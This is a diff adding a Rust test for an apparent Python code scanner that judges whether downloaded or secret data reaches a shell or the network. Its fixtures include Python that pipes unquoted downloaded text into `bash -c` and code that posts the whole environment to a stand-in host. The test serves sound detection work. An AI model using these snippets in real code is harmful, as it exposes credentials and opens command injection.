@@ -110,6 +110,17 @@ fn parsed_json_and_hashed_downloads_are_not_code() {
 }
 
 #[test]
+fn a_shell_quoted_download_is_an_argument_not_code() {
+    let quoted = py("import requests, shlex, subprocess\ntext = requests.get('https://x.example.invalid/' + name).text\nsubprocess.run(['bash', '-c', cmd.replace('{md}', shlex.quote(text))])\n");
+    assert!(quoted.is_empty(), "{quoted:?}");
+    let unquoted = py("import requests, subprocess\ntext = requests.get('https://x.example.invalid/' + name).text\nsubprocess.run(['bash', '-c', cmd.replace('{md}', text)])\n");
+    assert_eq!(unquoted.len(), 1, "{unquoted:?}");
+    // A quoted secret is still the secret.
+    let token = py("import os, json, shlex, requests\npayload = shlex.quote(json.dumps({'e': os.environ.copy()}))\nrequests.post('https://x.example.invalid', data=payload)\n");
+    assert!(!token.is_empty(), "{token:?}");
+}
+
+#[test]
 fn a_download_passed_to_a_helper_that_hashes_it_is_checked() {
     // The body is assembled in `https.get` callbacks and handed to a helper that hashes its parameter.
     let helper = concat!(
